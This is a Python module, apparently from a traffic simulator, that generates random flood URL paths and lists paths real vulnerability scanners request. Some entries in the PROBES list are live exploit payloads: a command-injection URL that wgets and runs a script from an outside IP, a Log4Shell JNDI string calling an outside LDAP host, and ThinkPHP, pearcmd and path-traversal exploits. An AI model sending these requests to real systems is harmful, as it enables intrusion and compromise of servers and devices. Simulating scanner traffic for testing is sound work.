"""Made-up paths of floods, and the probe lists of vulnerability scanners.

Used by the attack module and by the background scanning every real site receives.  Standard
library only.  A flood kit invents its random paths in its own way: :class:`Dialect` draws, per
flood, a few token shapes (hex, base62, base64url, UUID, pronounceable slugs, digits, nested
segments, real directories with a random tail), their lengths, extensions and query strings, so
no two floods share one template.  :data:`PROBES` are paths that real scanners ask for (admin
pages, leaked secrets, CVE exploit URLs), with the method they use.
"""

from __future__ import annotations

import itertools
import random
import string

from .core import pick

_HEX = "0123456789abcdef"
_ALNUM = string.ascii_lowercase + string.digits
_B62 = string.ascii_letters + string.digits
_B64URL = _B62 + "-_"
_CONSONANTS = "bcdfghjklmnprstvwz"
_VOWELS = "aeiou"
EXTENSIONS = (
    ".php", ".html", ".htm", ".js", ".css", ".json", ".xml", ".asp", ".aspx", ".jsp", ".txt",
    ".zip", ".bak", ".png", ".jpg", ".gif", ".cgi", ".do", ".action", ".shtml", ".pdf",
)  # fmt: skip
_QUERY_KEYS = ("id", "q", "s", "page", "v", "ref", "lang", "p", "cat", "sort", "from", "token")
SHAPES = ("hex", "alnum", "b62", "b64url", "uuid", "slug", "digits", "nested", "dated", "dirlike")


def token(rng: random.Random, alphabet: str, n: int) -> str:
    return "".join(rng.choices(alphabet, k=n))


_SYLLABLES = [c + v for c in _CONSONANTS for v in _VOWELS]


def word(rng: random.Random, lo: int = 3, hi: int = 9) -> str:
    """A pronounceable made-up word of ``lo`` to ``hi`` letters."""
    n = rng.randint(lo, hi)
    return "".join(rng.choices(_SYLLABLES, k=(n + 1) // 2))[:n]


class Dialect:
    """How one flood invents paths for a site whose real directories are ``dirs``."""

    def __init__(self, rng: random.Random, dirs: tuple[str, ...]) -> None:
        k = rng.choice((1, 2, 2, 3, 3, 4, 5))
        self.shapes = rng.sample(SHAPES, k)
        self.cum = list(itertools.accumulate(rng.uniform(0.2, 1.0) for _ in self.shapes))
        self.lengths = {}
        for shape in self.shapes:
            lo = rng.randint(5, 16)
            self.lengths[shape] = (lo, lo + rng.randint(0, 20))
        self.upper = rng.random() < 0.15
        self.dirs = dirs or ("/",)
        self.p_ext = rng.choice((0.0, 0.0, rng.uniform(0.05, 0.3), rng.uniform(0.3, 0.8)))
        self.exts = rng.sample(EXTENSIONS, rng.randint(1, 5))
        self.p_query = rng.choice((0.0, 0.0, rng.uniform(0.05, 0.3), rng.uniform(0.3, 0.9)))
        self.query_keys = rng.sample(_QUERY_KEYS, rng.randint(1, 4))
        self.p_slash = rng.choice((0.0, 0.0, 0.05, 0.3))

    def _segment(self, rng: random.Random, shape: str) -> str:
        lo, hi = self.lengths.get(shape, (6, 14))
        n = rng.randint(lo, hi)
        if shape == "hex":
            s = token(rng, _HEX, n)
            return s.upper() if self.upper else s
        if shape == "alnum":
            return token(rng, _ALNUM, n)
        if shape == "b62":
            return token(rng, _B62, n)
        if shape == "b64url":
            return token(rng, _B64URL, n)
        if shape == "uuid":
            h = token(rng, _HEX, 32)
            return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{h[16:20]}-{h[20:]}"
        if shape == "slug":
            return "-".join(word(rng) for _ in range(rng.randint(2, 5)))
        if shape == "digits":
            return str(rng.randrange(10 ** max(4, lo // 2), 10 ** max(6, hi // 2 + 2)))
        return token(rng, _ALNUM, n)

    def path(self, rng: random.Random) -> str:
        shape = pick(rng, self.shapes, self.cum)
        if shape == "nested":
            inner = [s for s in self.shapes if s not in ("nested", "dated", "dirlike")] or ["alnum"]
            segs = [self._segment(rng, rng.choice(inner)) for _ in range(rng.randint(2, 4))]
            path = "/" + "/".join(segs)
        elif shape == "dated":
            path = (
                f"/{rng.randint(2014, 2026)}/{rng.randint(1, 12):02d}/{self._segment(rng, 'slug')}"
            )
        elif shape == "dirlike":
            base = rng.choice(self.dirs).rstrip("/")
            inner = [s for s in self.shapes if s in ("hex", "alnum", "b62", "slug")] or ["alnum"]
            path = f"{base}/{self._segment(rng, rng.choice(inner))}"
        else:
            path = "/" + self._segment(rng, shape)
        if rng.random() < self.p_ext:
            path += rng.choice(self.exts)
        elif rng.random() < self.p_slash:
            path += "/"
        if rng.random() < self.p_query:
            path += "?" + self.query(rng)
        return path

    def query(self, rng: random.Random) -> str:
        parts = []
        for _ in range(rng.choice((1, 1, 1, 2, 3))):
            key = rng.choice(self.query_keys)
            style = rng.random()
            if style < 0.4:
                value = token(rng, _ALNUM, rng.randint(4, 16))
            elif style < 0.7:
                value = str(rng.randrange(1, 10 ** rng.randint(2, 9)))
            elif style < 0.85:
                value = word(rng)
            else:
                key, value = (
                    token(rng, string.ascii_lowercase, rng.randint(2, 8)),
                    token(rng, _B62, 8),
                )
            parts.append(f"{key}={value}")
        return "&".join(parts)


PROBES: tuple[tuple[str, str], ...] = tuple(
    (line.split()[0], line.split()[1]) if " " in line else ("GET", line)
    for line in [
        "",
        "/wp-login.php",
        "POST /wp-login.php",
        "POST /xmlrpc.php",
        "/wp-admin/",
        "/wp-admin/install.php",
        "/wp-admin/setup-config.php",
        "/wp-includes/wlwmanifest.xml",
        "/wp-content/plugins/revslider/temp/update_extract/revslider/",
        "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
        "/wordpress/wp-admin/",
        "/blog/wp-login.php",
        "/.env",
        "/.env.bak",
        "/.env.production",
        "/api/.env",
        "/app/.env",
        "/laravel/.env",
        "/.git/config",
        "/.git/HEAD",
        "/.svn/entries",
        "/.hg/hgrc",
        "/.DS_Store",
        "/.aws/credentials",
        "/.ssh/id_rsa",
        "/.vscode/sftp.json",
        "/sftp-config.json",
        "/config.json",
        "/config.php.bak",
        "/configuration.php~",
        "/docker-compose.yml",
        "/.dockerenv",
        "/phpmyadmin/",
        "/phpMyAdmin/",
        "/pma/",
        "/myadmin/",
        "/mysql/",
        "/phpmyadmin/index.php",
        "/adminer.php",
        "/phpinfo.php",
        "/info.php",
        "/test.php",
        "/server-status",
        "/server-info",
        "/admin",
        "/admin/",
        "/admin/login",
        "/administrator/",
        "/login",
        "/user/login",
        "/manager/html",
        "/solr/admin/info/system?wt=json",
        "/actuator/env",
        "/actuator/health",
        "/api/v1/pods",
        "/console/",
        "/jenkins/login",
        "/owa/auth/logon.aspx",
        "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application",
        "/autodiscover/autodiscover.json?@zdi/Powershell",
        "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
        "/+CSCOE+/logon.html",
        "/dana-na/auth/url_default/welcome.cgi",
        "/global-protect/login.esp",
        "/vpn/index.html",
        "/cgi-bin/luci/;stok=/locale",
        "/boaform/admin/formLogin",
        "/GponForm/diag_Form?images/",
        "/HNAP1/",
        "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*",
        "/shell?cd+/tmp;rm+-rf+*;wget+http://103.149.87.69/bins.sh;sh+bins.sh",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=Hello",
        "/public/index.php?s=index/think\\app/invokefunction",
        "/api/jsonws/invoke",
        "/_ignition/execute-solution",
        "/telescope/requests",
        "/horizon/api/stats",
        "/debug/default/view?panel=config",
        "/druid/index.html",
        "/nacos/v1/auth/users?pageNo=1&pageSize=9",
        "/geoserver/web/",
        "/ReportServer",
        "/Telerik.Web.UI.WebResource.axd?type=rau",
        "/Autodiscover/Autodiscover.xml",
        "/mgmt/tm/util/bash",
        "/api/v2/cmdb/system/admin/admin",
        "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
        "/icons/.%2e/%2e%2e/apache2/icons/sendmail.js",
        "/?XDEBUG_SESSION_START=phpstorm",
        "/?x=${jndi:ldap://45.83.64.1:1389/Exploit}",
        '/index.php?lang=../../../../../../../../usr/local/lib/php/pearcmd&+config-create+/&/<?echo(md5("hi"));?>+/tmp/index1.php',
        "/backup.zip",
        "/backup.tar.gz",
        "/backup.sql",
        "/db.sql",
        "/dump.sql",
        "/database.sql",
        "/www.zip",
        "/site.zip",
        "/web.zip",
        "/html.zip",
        "/wwwroot.rar",
        "/old/",
        "/new/",
        "/test/",
        "/dev/",
        "/staging/",
        "/demo/",
        "/cms/",
        "/shop/",
        "/crm/",
        "/api/",
        "/graphql",
        "/swagger-ui.html",
        "/swagger.json",
        "/v2/api-docs",
        "/robots.txt",
        "/sitemap.xml",
        "/security.txt",
        "/.well-known/security.txt",
        "/favicon.ico",
        "/",
        "",
    ]
    if line
)
"""(method, target) of what scanners ask for: logins, leaked secrets and backups, admin consoles,
exploit URLs of well-known CVEs (FortiOS, Exchange, ThinkPHP, PHPUnit, Log4Shell …), and a few
ordinary paths (``/``, ``/robots.txt``) that every scanner also fetches."""
